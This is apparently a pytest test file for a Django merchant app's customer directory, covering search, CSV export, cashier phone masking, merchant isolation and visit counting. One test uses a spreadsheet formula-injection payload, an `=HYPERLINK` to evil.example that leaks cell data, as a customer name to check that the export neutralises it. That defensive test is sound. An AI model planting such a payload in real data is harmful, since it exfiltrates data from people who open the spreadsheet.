"""The customer directory fills itself, searches, masks contact details, and keeps a timeline."""

import datetime as dt
import re
from decimal import Decimal

import pytest
from django.utils import timezone

from regulars.core import clock
from regulars.customers import services as customer_services
from regulars.customers.models import Customer
from regulars.membership import services as cards
from regulars.merchants import services as merchant_services
from regulars.orders import services as order_services
from regulars.promotions import services as coupons
from tests.conftest import make_person
from tests.orders.test_orders import pay_by_sandbox
from tests.promotions.conftest import make_campaign

pytestmark = pytest.mark.django_db


def buy_and_use(consumer, salon, event):
    owner, store, haircut, _wash = salon
    order, _url = order_services.place_order(
        consumer=consumer, store_id=store.pk, lines=[(haircut.pk, 1)], payment_method="sandbox"
    )
    pay_by_sandbox(order, event_id=event)
    order_services.confirm_consumption(actor=owner, code=order.code)
    return order


def test_orders_cards_and_coupons_make_customers_with_visits_and_spend(salon, consumer):
    owner = salon[0]
    buy_and_use(consumer, salon, "e1")
    buy_and_use(consumer, salon, "e2")
    customer = Customer.objects.get(merchant=owner.merchant, consumer=consumer)
    assert (customer.visits, customer.spend, customer.source) == (2, Decimal("136.00"), "order")
    program = cards.design_program(actor=owner, title="卡", published=True)
    member = make_person("13800000801", "会员")
    card = cards.apply_for_card(consumer=member, merchant_id=program.merchant_id)
    purchase = cards.record_purchase(card_id=card.pk, amount="88", idempotency_key="till-1")
    fan = make_person("13800000802", "领券人")
    coupons.claim(consumer=fan, campaign_id=make_campaign(owner).pk)
    by_person = {c.consumer_id: c for c in Customer.objects.filter(merchant=owner.merchant)}
    assert by_person[member.pk].visits == 1 and by_person[member.pk].spend == Decimal("88.00")
    assert by_person[fan.pk].source == "coupon" and by_person[fan.pk].visits == 0
    cards.void_purchase(actor=owner, purchase_id=purchase.pk, idempotency_key="void-1")
    by_person[member.pk].refresh_from_db()
    assert (by_person[member.pk].visits, by_person[member.pk].spend) == (0, Decimal("0.00"))
    # Rebuilding from the facts gives the same figures.
    Customer.objects.update(visits=99, spend=Decimal("1"))
    customer_services.rebuild_directory(merchant_ids=[owner.merchant.pk])
    customer.refresh_from_db()
    assert (customer.visits, customer.spend) == (2, Decimal("136.00"))


def test_search_by_criteria_and_the_timeline(client, salon, consumer):
    owner = salon[0]
    buy_and_use(consumer, salon, "e1")
    other = make_person("13800000803", "王芳")
    cards.design_program(actor=owner, title="卡", published=True)
    cards.apply_for_card(consumer=other, merchant_id=owner.merchant.pk)
    customer = Customer.objects.get(consumer=consumer)
    customer_services.update_customer(
        actor=owner,
        customer_id=customer.pk,
        name="小李",
        birthday=None,
        tags=["熟客", "爱烫发"],
        notes="喜欢周末来",
        consent=True,
        account_manager_id=None,
    )
    client.force_login(owner.user)
    page = client.get("/console/customers/", {"tag": "熟客"}).content.decode()
    assert "小李" in page and "王芳" not in page
    page = client.get("/console/customers/", {"min_spend": "50"}).content.decode()
    assert "小李" in page and "王芳" not in page
    page = client.get("/console/customers/", {"q": "王"}).content.decode()
    assert "王芳" in page and "小李" not in page
    profile = client.get(f"/console/customers/{customer.pk}/").content.decode()
    assert "洗剪吹" in profile and "data-timeline" in profile and "Consent recorded" in profile
    exported = client.get("/console/customers/export.csv", {"tag": "熟客"})
    lines = b"".join(exported.streaming_content).decode("utf-8-sig").strip().splitlines()
    assert len(lines) == 2 and "小李" in lines[1] and "138 0000 0061" in lines[1]


def test_a_cashier_sees_phones_masked_and_cannot_edit(client, salon, consumer, api_token):
    owner = salon[0]
    buy_and_use(consumer, salon, "e1")
    customer = Customer.objects.get(consumer=consumer)
    cashier = make_person("13900000804", "收银员")
    invitation = merchant_services.invite_staff(actor=owner, contact=cashier.phone, role="cashier")
    merchant_services.accept_invitation(user=cashier, token=invitation.token)
    client.force_login(cashier)
    page = client.get("/console/customers/").content.decode()
    assert "138****0061" in page and "138 0000 0061" not in page
    client.post(f"/console/customers/{customer.pk}/", {"name": "改名", "notes": "x"})
    customer.refresh_from_db()
    assert customer.name != "改名"
    listed = client.get("/api/v1/merchant/customers", **api_token(cashier)).json()
    assert listed[0]["phone"] == "138****0061" and listed[0]["phone_masked"] is True
    refused = client.patch(
        f"/api/v1/merchant/customers/{customer.pk}",
        {"name": "改名"},
        content_type="application/json",
        **api_token(cashier),
    )
    assert refused.status_code == 403


def test_another_merchant_cannot_see_the_customer(client, salon, consumer, owner_b, api_token):
    buy_and_use(consumer, salon, "e1")
    customer = Customer.objects.get(consumer=consumer)
    client.force_login(owner_b.user)
    assert client.get(f"/console/customers/{customer.pk}/").status_code == 404
    headers = api_token(owner_b.user)
    assert client.get(f"/api/v1/merchant/customers/{customer.pk}", **headers).status_code == 404
    assert client.get("/api/v1/merchant/customers", **headers).json() == []


def test_bad_edits_are_refused_and_change_nothing(salon, consumer):
    import datetime as dt

    owner = salon[0]
    buy_and_use(consumer, salon, "e1")
    customer = Customer.objects.get(consumer=consumer)
    with pytest.raises(Exception, match="future"):
        customer_services.update_customer(
            actor=owner,
            customer_id=customer.pk,
            name="x",
            birthday=dt.date(2999, 1, 1),
            tags=[],
            notes="",
            consent=False,
            account_manager_id=None,
        )
    customer.refresh_from_db()
    assert customer.name == "小李"


def test_rebuilding_recreates_the_directory_from_the_facts(salon, consumer):
    buy_and_use(consumer, salon, "rb1")
    buy_and_use(consumer, salon, "rb2")
    Customer.objects.all().delete()
    assert customer_services.rebuild_directory() == 1
    found = Customer.objects.get(consumer=consumer)
    assert (found.visits, found.spend, found.source) == (2, Decimal("136.00"), "order")


def test_the_customer_export_neutralises_spreadsheet_formulas(client, salon):
    """A consumer named `=HYPERLINK(...)` arrives as text, not as a formula run by Excel."""
    import csv
    import io

    owner = salon[0]
    attacker = make_person("13800000999", '=HYPERLINK("http://evil.example/?"&A1,"点我")')
    buy_and_use(attacker, salon, "x1")
    customer = Customer.objects.get(consumer=attacker)
    Customer.objects.filter(pk=customer.pk).update(name="@SUM(1+1)", notes="-2+3")
    client.force_login(owner.user)
    exported = client.get("/console/customers/export.csv")
    text = b"".join(exported.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_without_the_contact_right_phones_are_masked_everywhere_and_found_only_whole(
    client, salon, api_token
):
    """A consumer without a display name: a cashier sees 138****0077 on every page and in every
    API answer, and typing a prefix finds nobody (it would unmask the number digit by digit)."""
    owner, store, haircut, _wash = salon
    nameless = make_person("13800000077")
    cards.design_program(actor=owner, title="会员卡", published=True)
    card = cards.apply_for_card(consumer=nameless, merchant_id=owner.merchant.pk)
    buy_and_use(nameless, salon, "m1")
    tomorrow_ten = timezone.localtime(clock.now() + dt.timedelta(days=1)).replace(
        hour=10, minute=0, second=0, microsecond=0
    )
    order_services.book(consumer=nameless, item_id=haircut.pk, starts_at=tomorrow_ten)
    cashier = make_person("13900000805", "收银员")
    invitation = merchant_services.invite_staff(actor=owner, contact=cashier.phone, role="cashier")
    merchant_services.accept_invitation(user=cashier, token=invitation.token)
    client.force_login(cashier)
    pages = [
        "/console/members/",
        f"/console/members/{card.pk}/",
        "/console/orders/",
        "/console/customers/",
        f"/console/reservations/?day={tomorrow_ten:%Y-%m-%d}",
    ]
    for url in pages:
        html = client.get(url).content.decode()
        assert "138 0000 0077" not in html and "13800000077" not in html, url
        assert "138****0077" in html, url
    auth = api_token(cashier)
    for url in ("/api/v1/merchant/orders", "/api/v1/merchant/cards", "/api/v1/merchant/customers"):
        text = client.get(url, **auth).content.decode()
        assert "13800000077" not in text and "138 0000 0077" not in text, url
    # Prefix search finds nobody; the whole number finds the one customer.
    for prefix in ("1380000007", "138000000"):
        assert client.get("/api/v1/merchant/cards", {"q": prefix}, **auth).json() == []
        assert client.get("/api/v1/merchant/customers", {"q": prefix}, **auth).json() == []
    assert len(client.get("/api/v1/merchant/cards", {"q": "13800000077"}, **auth).json()) == 1
    assert len(client.get("/api/v1/merchant/customers", {"q": "138 0000 0077"}, **auth).json()) == 1
    # The owner, who may see contacts, finds by part of the number and sees it whole.
    owner_auth = api_token(owner.user)
    found = client.get("/api/v1/merchant/customers", {"q": "0000007"}, **owner_auth).json()
    assert len(found) == 1 and found[0]["phone"] == "138 0000 0077"


def test_patch_changes_only_what_it_sends_and_put_needs_the_whole_record(
    client, salon, consumer, api_token
):
    owner = salon[0]
    buy_and_use(consumer, salon, "p1")
    customer = Customer.objects.get(consumer=consumer)
    customer_services.update_customer(
        actor=owner,
        customer_id=customer.pk,
        name="李先生",
        birthday=dt.date(1988, 3, 4),
        tags=["熟客"],
        notes="爱喝茶",
        consent=True,
        account_manager_id=None,
    )
    auth = api_token(owner.user)
    url = f"/api/v1/merchant/customers/{customer.pk}"
    partial_put = client.put(
        url, {"account_manager_id": owner.user.pk}, content_type="application/json", **auth
    )
    assert partial_put.status_code == 422
    patched = client.patch(
        url, {"account_manager_id": owner.user.pk}, content_type="application/json", **auth
    )
    assert patched.status_code == 200, patched.content
    customer.refresh_from_db()
    assert (customer.name, customer.birthday, customer.notes, customer.consent) == (
        "李先生",
        dt.date(1988, 3, 4),
        "爱喝茶",
        True,
    )
    assert [t.name for t in customer.tags.all()] == ["熟客"]
    assert customer.account_manager_id == owner.user.pk
    cleared = client.patch(url, {"birthday": None}, content_type="application/json", **auth)
    assert cleared.status_code == 200
    customer.refresh_from_db()
    assert customer.birthday is None and customer.name == "李先生"


def test_a_coupon_used_at_the_till_is_one_visit_everywhere_and_never_two(salon):
    """One definition of a visit (promotions/visits.py): a coupon used at the till counts as a
    visit in the directory, the reports and after a rebuild; a card purchase recorded for the
    same occasion stands for it instead of adding a second visit."""
    from regulars.analytics.selectors import Period, report
    from regulars.promotions.visits import visits

    owner = salon[0]
    campaign = make_campaign(owner, kind="amount_off", amount="10", threshold=0)
    walker = make_person("13800000811", "只用券")
    coupon = coupons.claim(consumer=walker, campaign_id=campaign.pk)
    coupons.redeem_at_till(actor=owner, code=coupon.code, bill="60")
    customer = Customer.objects.get(merchant=owner.merchant, consumer=walker)
    assert (customer.visits, customer.spend) == (1, Decimal("50.00"))

    cards.design_program(actor=owner, title="卡", published=True)
    member = make_person("13800000812", "刷卡也用券")
    card = cards.apply_for_card(consumer=member, merchant_id=owner.merchant.pk)
    second = coupons.claim(consumer=member, campaign_id=campaign.pk)
    coupons.redeem_at_till(actor=owner, code=second.code, bill="60")
    clock.advance(dt.timedelta(minutes=2))
    cards.record_purchase(card_id=card.pk, amount="50", idempotency_key="same-occasion")
    both = Customer.objects.get(merchant=owner.merchant, consumer=member)
    assert (both.visits, both.spend) == (1, Decimal("50.00"))

    seen = visits(owner.merchant.pk)
    assert sorted(v.consumer_id for v in seen) == sorted([walker.pk, member.pk])
    kpis = dict(report(owner.merchant, Period.for_kind("dashboard")).kpis)
    assert kpis["Active customers"] == 2 and kpis["Revenue (¥)"] == Decimal("100.00")

    Customer.objects.update(visits=99, spend=Decimal("1"))
    customer_services.rebuild_directory(merchant_ids=[owner.merchant.pk])
    figures = dict(
        Customer.objects.filter(merchant=owner.merchant).values_list("consumer_id", "visits")
    )
    assert figures == {walker.pk: 1, member.pk: 1}


def test_the_directory_pages_through_every_customer_keeping_the_criteria(client, salon):
    owner = salon[0]
    Customer.objects.bulk_create(
        Customer(merchant=owner.merchant, name=f"顾客{n:02d}", notes="周末" if n < 55 else "")
        for n in range(60)
    )
    client.force_login(owner.user)
    first = client.get("/console/customers/", {"q": "周末", "sort": "name"}).content.decode()
    assert "55 customers" in first and "Page 1 of 2" in first
    shown = re.findall(r"顾客(\d\d)", first)
    assert len(shown) == 50
    following = re.search(r'href="\?([^"]*page=2)"', first).group(1).replace("&amp;", "&")
    assert "q=" in following and "sort=name" in following
    second = client.get(f"/console/customers/?{following}").content.decode()
    assert sorted(shown + re.findall(r"顾客(\d\d)", second)) == [f"{n:02d}" for n in range(55)]
    assert "export.csv?q=" in second and "page=" not in second.split("export.csv")[1][:40]
